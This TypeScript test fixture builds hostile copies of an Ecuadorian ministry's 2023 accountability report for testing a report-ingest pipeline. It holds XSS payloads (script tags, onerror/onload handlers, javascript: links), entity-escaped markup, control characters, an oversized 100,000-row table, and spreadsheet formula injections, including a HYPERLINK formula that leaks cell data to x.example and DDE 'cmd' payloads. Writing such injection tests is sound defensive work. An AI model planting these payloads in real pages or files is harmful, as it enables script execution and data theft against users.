/**
 * A hostile report for the injection tests: the real CPCCS report of the Ministerio del
 * Interior 2023 (data/reports/2023-ministerio-del-interior-rendicion-de-cuentas.txt) with
 * script/handler/URL payloads written into its text cells (institution name, goal objective
 * and indicator, budget line names and link cells, procurement type and link cells,
 * disposals, recommendations, citizen-input text), and another RUC and link domain so it stands
 * as its own (provisional) institution named by the report. Every figure is left as in the
 * original.
 */
import { readFileSync } from 'node:fs';

export const HOSTILE_SOURCE = 'data/reports/2023-ministerio-del-interior-rendicion-de-cuentas.txt';
export const HOSTILE_FILE = '2023-ministerio-hostil-rendicion-de-cuentas.txt';

export const PAYLOADS = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  svg: '<svg onload=alert(1)>',
  attr: '" onmouseover="alert(1)',
  js: 'javascript:alert(1)',
  jsLink: '<a href="javascript:alert(1)">verificar</a>',
} as const;

/** [original text, hostile text] — each original occurs in the source and is replaced once. */
const EDITS: [string, string][] = [
  ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', `NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO HOSTIL ${PAYLOADS.script} ${PAYLOADS.attr}`],
  ['RUC:\t1798194735001', 'RUC:\t1799999999001'],
  ['PERTENECE A:\tMINISTERIO DEL INTERIOR', `PERTENECE A:\tMINISTERIO HOSTIL ${PAYLOADS.svg}`],
  // Goals: objective, description and indicator.
  ['1.1. NÚMERO DE ESTRATÉGIAS DE PREVENCIÓN', `1.1. NÚMERO DE ESTRATÉGIAS ${PAYLOADS.img} DE PREVENCIÓN`],
  ['FORTALECIMIENTO INSTITUCIONAL\t4.1.', `FORTALECIMIENTO ${PAYLOADS.script} INSTITUCIONAL\t4.1.`],
  ['Fortalecer las Capacidades Institucionales.\tNO. DE META', `Fortalecer las Capacidades ${PAYLOADS.svg} Institucionales.\tNO. DE META`],
  // Budget lines: names and their verification links.
  ['PROGRAMA Y/O PROYECTO\tEgresos en personal\t', `PROGRAMA Y/O PROYECTO\tEgresos en personal ${PAYLOADS.svg}\t`],
  ['PROGRAMA Y/O PROYECTO\tBienes y servicios de consumo\t', `PROGRAMA Y/O PROYECTO\tBienes y servicios de consumo ${PAYLOADS.attr}\t`],
  ['PROGRAMA Y/O PROYECTO\tOtros egresos corrientes\t', `PROGRAMA Y/O PROYECTO\tOtros egresos corrientes ${PAYLOADS.script}\t`],
  ['\t25,45 %\thttp://repositorio.ministeriodelinterior.gob.ec/owncloud/index.php/s/cxyZbpd0lSn8wQP', `\t25,45 %\t${PAYLOADS.js}`],
  // Procurement: a type name and link cells.
  ['COTIZACIÓN\t4\t', `COTIZACIÓN ${PAYLOADS.img}\t4\t`],
  ['\t1\t\\$14.794,25\thttp://www.ministeriodelinterior.gob.ec/transparencia/', `\t1\t\\$14.794,25\t${PAYLOADS.js}`],
  ['CONSULTORÍA\t1\t\\$22.321,43\t0\t\\$0,00\thttp://www.ministeriodelinterior.gob.ec/transparencia/', `CONSULTORÍA\t1\t\\$22.321,43\t0\t\\$0,00\t${PAYLOADS.jsLink}`],
  // Disposals and recommendations.
  ['ENAJENACIÓN\tInmueble\t', `ENAJENACIÓN\tInmueble ${PAYLOADS.img}\t`],
  ['\t75,00 %\tExamen especial', `\t75,00 %\t${PAYLOADS.script} Examen especial ${PAYLOADS.attr}`],
  // Citizen input and deliberation text.
  ['DESCRIBA LOS PRINCIPALES APORTES CIUDADANOS RECIBIDOS:\tDENTRO DE LA DELIBERACIÓN', `DESCRIBA LOS PRINCIPALES APORTES CIUDADANOS RECIBIDOS:\t${PAYLOADS.script}${PAYLOADS.svg} DENTRO DE LA DELIBERACIÓN`],
  ['Rendición de cuentas a la ciudadanía (deliberación pública)', `Rendición de cuentas ${PAYLOADS.img} a la ciudadanía (deliberación pública) ${PAYLOADS.jsLink}`],
];

/** The hostile report's text; throws if the source no longer has a text to replace. */
export function hostileReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
  let text = source.replace(/\r\n/g, '\n');
  for (const [from, to] of EDITS) {
    const at = text.indexOf(from);
    if (at < 0) throw new Error(`hostile report: text not found in ${HOSTILE_SOURCE}: ${JSON.stringify(from)}`);
    text = text.slice(0, at) + to + text.slice(at + from.length);
  }
  // Its verification links point to another domain, so the institution is not inferred from them.
  return text.replaceAll('ministeriodelinterior.gob.ec', 'ministerio-hostil.example');
}

// ---------------------------------------------------------------- issue 15: what the ingest must neutralize

/** Payloads a careless publisher's HTML export writes entity-escaped: the ingest decodes them once. */
export const ESCAPED_PAYLOADS = {
  script: '&lt;script&gt;alert(1)&lt;/script&gt;',
  img: '&lt;img src=x onerror=alert(1)&gt;',
  numeric: '&#60;svg onload=alert(1)&#62;',
} as const;

/** Spreadsheet formulas (OWASP CSV injection examples). */
export const FORMULAS = {
  hyperlink: '=HYPERLINK("http://x.example/?leak="&A1,"clic")',
  cmd: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
} as const;

/** Control characters a broken export leaves in text (ESC, BEL, NUL, vertical tab). */
export const CONTROLS = '\x1b[31m\x07\x00\x0b';

export const ESCAPED_FILE = '2023-ministerio-escapado-rendicion-de-cuentas.txt';
export const FORMULA_FILE = '2023-ministerio-formulas-rendicion-de-cuentas.txt';
export const HUGE_FILE = '2023-ministerio-enorme-rendicion-de-cuentas.txt';
/** Budget lines in the huge copy. */
export const HUGE_ROWS = 100_000;

/** Replaces each `from` once; throws when the source lacks one. */
function edit(source: string, edits: [string, string][], domain: string): string {
  let text = source.replace(/\r\n/g, '\n');
  for (const [from, to] of edits) {
    const at = text.indexOf(from);
    if (at < 0) throw new Error(`hostile report: text not found in ${HOSTILE_SOURCE}: ${JSON.stringify(from)}`);
    text = text.slice(0, at) + to + text.slice(at + from.length);
  }
  return text.replaceAll('ministeriodelinterior.gob.ec', domain);
}

/** Entity-escaped markup and control characters in the name, goals, budget and procurement. */
export function escapedReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
  return edit(source, [
    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', `NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO ESCAPADO ${ESCAPED_PAYLOADS.script}${CONTROLS} ${ESCAPED_PAYLOADS.img}`],
    ['RUC:\t1798194735001', 'RUC:\t1799999998001'],
    ['1.1. NÚMERO DE ESTRATÉGIAS DE PREVENCIÓN', `1.1. NÚMERO DE ESTRATÉGIAS ${ESCAPED_PAYLOADS.numeric} DE PREVENCIÓN${CONTROLS}`],
    ['PROGRAMA Y/O PROYECTO\tEgresos en personal\t', `PROGRAMA Y/O PROYECTO\tEgresos en personal ${ESCAPED_PAYLOADS.script}\t`],
    ['COTIZACIÓN\t4\t', `COTIZACIÓN ${ESCAPED_PAYLOADS.img}${CONTROLS}\t4\t`],
    ['ENAJENACIÓN\tInmueble\t', `ENAJENACIÓN\tInmueble ${ESCAPED_PAYLOADS.script}\t`],
  ], 'ministerio-escapado.example');
}

/** Formulas as the institution name, a goal, a budget line, a procurement type, a disposal. */
export function formulaReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
  return edit(source, [
    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', `NOMBRE DE LA INSTITUCIÓN:\t${FORMULAS.hyperlink}`],
    ['RUC:\t1798194735001', 'RUC:\t1799999997001'],
    ['1.1. NÚMERO DE ESTRATÉGIAS DE PREVENCIÓN', FORMULAS.cmd],
    ['PROGRAMA Y/O PROYECTO\tEgresos en personal\t', `PROGRAMA Y/O PROYECTO\t${FORMULAS.at}\t`],
    ['PROGRAMA Y/O PROYECTO\tOtros Pasivos\t', `PROGRAMA Y/O PROYECTO\t${FORMULAS.minus}\t`],
    ['COTIZACIÓN\t4\t', `${FORMULAS.hyperlink}\t4\t`],
    ['ENAJENACIÓN\tInmueble\t', `ENAJENACIÓN\t${FORMULAS.cmd}\t`],
  ], 'ministerio-formulas.example');
}

/**
 * A budget table of HUGE_ROWS lines (line i, from 0: planned 2 × ($500,00 + i cents), executed
 * $500,00 + i cents, 50,00 %), in place of the report's 8 lines, under another name and RUC.
 */
export function hugeReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
  const first = 'PROGRAMA Y/O PROYECTO\tEgresos en personal\t';
  const text = edit(source, [
    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', 'NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO ENORME'],
    ['RUC:\t1798194735001', 'RUC:\t1799999996001'],
  ], 'ministerio-enorme.example');
  const lines = text.split('\n');
  const at = lines.findIndex((l) => l.startsWith(first));
  const end = lines.findIndex((l, i) => i > at && l.startsWith('Total\t'));
  if (at < 0 || end < 0) throw new Error('hostile report: budget table not found');
  const money = (cents: number) => `\\$${Math.floor(cents / 100).toLocaleString('es-EC').replace(/\s/g, '.')},${String(cents % 100).padStart(2, '0')}`;
  const rows = Array.from({ length: HUGE_ROWS }, (_, i) => `PROGRAMA Y/O PROYECTO\tLínea presupuestaria ${i + 1}\t${money(2 * (50_000 + i))}\t${money(50_000 + i)}\t50,00 %\t`);
  return [...lines.slice(0, at), ...rows, ...lines.slice(end)].join('\n');
}
